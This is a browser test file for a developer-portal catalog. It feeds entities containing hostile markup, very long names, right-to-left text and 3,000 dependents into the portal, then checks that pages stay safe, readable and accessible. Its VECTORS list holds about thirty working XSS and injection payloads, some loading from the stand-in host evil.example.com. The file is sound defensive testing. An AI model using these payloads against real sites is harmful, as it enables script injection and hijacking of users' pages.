// Entities as strangers write them, on a real callboard: markup that would run, names and lists as long as they may
// be, text that runs from right to left, and one that 3,000 others need. Nothing of it breaks a page or leaves it blank.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { missing, startServer } from '../support/server.mjs';
import { assertAccessible, assertFits, harmIn, HARMLESS, launch, openPage, portalFiles, shoot } from './browser.mjs';

const MANY = 3_000;
const PER_FILE = 300;
const LONG = 'a-component-whose-name-is-exactly-sixty-three-characters-long-x';
const RIGHT_TO_LEFT = 'خدمة الدفع تعالج المدفوعات وتسترد الأموال \u202Eكلها\u202C';
const HACK = 'window.hacked=1';

// What has run somewhere, once, in a page that trusted its text.
const VECTORS = [
  `<script>${HACK}</script>`,
  `<script src="https://evil.example.com/x.js"></script>`,
  `<img src=x onerror="${HACK}">`,
  `<svg onload="${HACK}"><script>${HACK}</script></svg>`,
  `<svg><a xlink:href="javascript:${HACK}"><text y="20">press</text></a></svg>`,
  `<iframe src="javascript:parent.${HACK}"></iframe>`,
  `<iframe srcdoc="<script>parent.${HACK}</script>"></iframe>`,
  `<object data="data:text/html,<script>${HACK}</script>"></object>`,
  `<embed src="https://evil.example.com/x.swf">`,
  `<body onload="${HACK}">`,
  `<details open ontoggle="${HACK}">more</details>`,
  `<input autofocus onfocus="${HACK}">`,
  `<form action="https://evil.example.com"><button>send</button></form>`,
  `<style>@import "https://evil.example.com/x.css"; body { display: none }</style>`,
  `<link rel="stylesheet" href="https://evil.example.com/x.css">`,
  `<meta http-equiv="refresh" content="0; url=https://evil.example.com">`,
  `<base href="https://evil.example.com/">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${HACK}"></style></mglyph></table></mtext></math>`,
  `<!--><img src=x onerror="${HACK}">-->`,
  `<a href="  java\tscript:${HACK}">a space before it</a>`,
  `[press](javascript:${HACK})`,
  `[press](JaVaScRiPt:${HACK})`,
  `[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)`,
  `[press](vbscript:msgbox)`,
  `![image](https://evil.example.com/x.png)`,
  `![image](javascript:${HACK})`,
  `<javascript:${HACK}>`,
  `[ref]: javascript:${HACK}\n\n[press me][ref]`,
  '`<img src=x onerror=alert(1)>`',
  '${alert(1)} {{constructor.constructor("alert(1)")()}}',
];
const HOSTILE_TEXT = VECTORS.join('\n\n');

const entity = (kind, name, spec, metadata = {}) => ({ apiVersion: 'backstage.io/v1alpha1', kind, metadata: { name, ...metadata }, spec });
const component = (name, spec = {}, metadata) => entity('Component', name, { type: 'service', lifecycle: 'production', owner: 'group:default/strangers', ...spec }, metadata);
const text = (entities) => entities.map((one) => `---\n${JSON.stringify(one)}\n`).join('');

function company() {
  const few = [
    entity('Group', 'strangers', { type: 'team', children: [] }),
    entity('Resource', 'hub', { type: 'database', owner: 'group:default/strangers' }, { title: 'Everybody needs it' }),
    component('hostile', { type: VECTORS[0].slice(0, 60), lifecycle: VECTORS[2].slice(0, 60) }, {
      title: VECTORS[2],
      description: HOSTILE_TEXT,
      annotations: { 'example.com/note': HOSTILE_TEXT, 'backstage.io/source-location': `javascript:${HACK}` },
      links: [
        { url: `javascript:${HACK}`, title: 'Press me' },
        { url: `data:text/html,<script>${HACK}</script>`, title: VECTORS[2] },
        { url: 'https://wiki.example.com/x', title: VECTORS[0], icon: VECTORS[0] },
      ],
    }),
    component(LONG, { system: `system:default/${LONG}` }, { title: `${LONG} `.repeat(4).trim(), description: 'without-any-space-'.repeat(40) }),
    entity('System', LONG, { owner: 'group:default/strangers' }),
    component('forty-tags', {}, { tags: Array.from({ length: 40 }, (_, i) => `a-tag-that-is-rather-long-number-${i}`) }),
    component('right-to-left', { system: 'system:default/rtl' }, { title: RIGHT_TO_LEFT, description: `${RIGHT_TO_LEFT} `.repeat(8) }),
    entity('System', 'rtl', { owner: 'group:default/strangers' }, { title: RIGHT_TO_LEFT }),
    {
      apiVersion: 'scaffolder.backstage.io/v1beta3', kind: 'Template',
      metadata: { name: 'hostile', title: VECTORS[2], description: HOSTILE_TEXT },
      spec: {
        type: 'service', owner: 'group:default/strangers',
        parameters: [{ title: VECTORS[0], description: HOSTILE_TEXT, properties: { name: { type: 'string', title: VECTORS[3], description: HOSTILE_TEXT } } }],
        steps: [{ id: 'log', name: VECTORS[2], action: 'debug:log', input: { message: VECTORS[0] } }],
      },
    },
  ];
  const files = { 'few.yaml': text(few) };
  for (let from = 0; from < MANY; from += PER_FILE) {
    files[`crowd-${from}.yaml`] = text(Array.from({ length: PER_FILE }, (_, i) => component(`needs-the-hub-${String(from + i).padStart(4, '0')}`, { dependsOn: ['resource:default/hub'] })));
  }
  const targets = Object.keys(files).map((name) => `./${name}`);
  return { 'all.yaml': text([entity('Location', 'all', { targets })]), ...files };
}

let browser;
let server;

describe('what strangers write', { skip: missing }, () => {
  before(async () => {
    [browser, server] = await Promise.all([launch(), startServer({ catalog: company(), env: { CALLBOARD_PORTAL_DIR: portalFiles() } })]);
  });
  after(async () => {
    await browser?.close();
    await server?.stop();
  });

  async function open(path, options = {}) {
    const page = await openPage(browser, server.url, { path, ...options });
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.waitForLoadState('networkidle');
    await page.waitForFunction(() => ![...document.querySelectorAll('[role=status]')].some((e) => e.textContent.startsWith('Loading')));
    return page;
  }

  // Nothing was run or loaded, and there is something to read.
  async function harmless(page, what) {
    const blank = await page.evaluate(() => document.querySelector('main').innerText.trim().length < 20 || document.querySelector('h1').innerText.trim() === '');
    assert.deepEqual({ ...(await harmIn(page)), blank }, { ...HARMLESS, blank: false }, what);
    page.judge();
  }

  for (const [name, path] of [
    ['home', '/'],
    ['catalog', '/catalog?kind=Component&q=hostile'],
    ['entity', '/catalog/default/component/hostile'],
    ['yaml', '/catalog/default/component/hostile/source'],
    ['history', '/catalog/default/component/hostile/history'],
    ['dependencies', '/catalog/default/component/hostile/dependencies'],
    ['search', '/search?q=hacked'],
    ['search-for-markup', `/search?q=${encodeURIComponent(VECTORS[2])}`],
    ['landscape', '/landscape'],
    ['templates', '/create'],
    ['template', '/create/templates/default/hostile'],
    ['problems', '/problems'],
    ['long', `/catalog/default/component/${LONG}`],
    ['long-dependencies', `/catalog/default/component/${LONG}/dependencies`],
    ['forty-tags', '/catalog/default/component/forty-tags'],
    ['catalog-of-tags', '/catalog?q=forty-tags'],
    ['right-to-left', '/catalog/default/component/right-to-left'],
    ['right-to-left-graph', '/catalog/default/component/right-to-left/dependencies'],
    ['hub', '/catalog/default/resource/hub'],
    ['hub-impact', '/catalog/default/resource/hub/impact'],
    ['hub-table', '/catalog/default/resource/hub/dependencies?view=table'],
    ['owner', '/catalog/default/group/strangers'],
  ]) {
    test(`${name}: runs nothing, loads nothing, is not blank, fits, and axe finds nothing`, async () => {
      const page = await open(path);
      await harmless(page, name);
      await assertAccessible(page, name);
      await shoot(page, `hostile-${name}`);
      await page.setViewportSize({ width: 320, height: 640 });
      await assertFits(page, `${name} at 320`);
      await shoot(page, `hostile-${name}-320`);
      await harmless(page, `${name} at 320`);
    });
  }

  test('3,000 that need one are counted, cut with a sentence, and all of them can be had', async () => {
    const page = await open('/catalog/default/resource/hub');
    await page.getByText('3,000').first().waitFor();
    assert.ok((await page.locator('main a').count()) < 400, 'not all of them are drawn at once');
    await page.goto('/catalog/default/resource/hub/dependencies');
    await page.getByText(/^Showing 300 of [\d,]+$/).waitFor();
    await page.goto('/catalog/default/resource/hub/impact');
    await page.getByRole('heading', { name: /^3,000 entities of 1 owner would break/ }).waitFor();
    page.judge();
  });
});
